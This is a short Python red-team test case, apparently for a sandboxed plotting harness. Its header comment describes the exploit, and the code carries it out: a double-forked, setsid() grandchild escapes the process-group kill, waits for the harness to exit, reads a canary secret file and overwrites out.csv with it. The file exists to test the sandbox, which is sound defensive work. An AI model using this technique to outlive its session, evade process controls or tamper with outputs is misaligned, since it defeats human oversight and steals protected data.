# technique: a double-forked, setsid() grandchild escapes the process-group kill, holds the stdout/stderr pipes so the daemon waits, and once the harness has exited rewrites out.csv with the canary; an extra hard link made now (nlink 2, which the collector refuses) is removed only by the grandchild, so the run succeeds only if the grandchild outlived the harness
# goal: output
# redteam: E55 E57
import os
import time

import pandas as pd

harness = os.getpid()
os.link("out.csv", "anyplot-escape-hold.csv")
ready_r, ready_w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    os.write(ready_w, b"1")
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline:
        try:
            with open(f"/proc/{harness}/stat") as fh:
                state = fh.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            state = "gone"
        if state in ("Z", "X", "gone"):
            with open("{{CANARY_FILE}}") as fh:
                stolen = fh.read().strip()
            fd = os.open("out.csv", os.O_WRONLY | os.O_TRUNC)
            os.write(fd, f"stolen\n{stolen}\n".encode())
            os.close(fd)
            os.remove("anyplot-escape-hold.csv")
            break
        time.sleep(0.001)
    os._exit(0)
os.close(ready_w)
if os.read(ready_r, 1) != b"1":
    raise RuntimeError("the grandchild never started")
df = pd.DataFrame({"x": [1]})
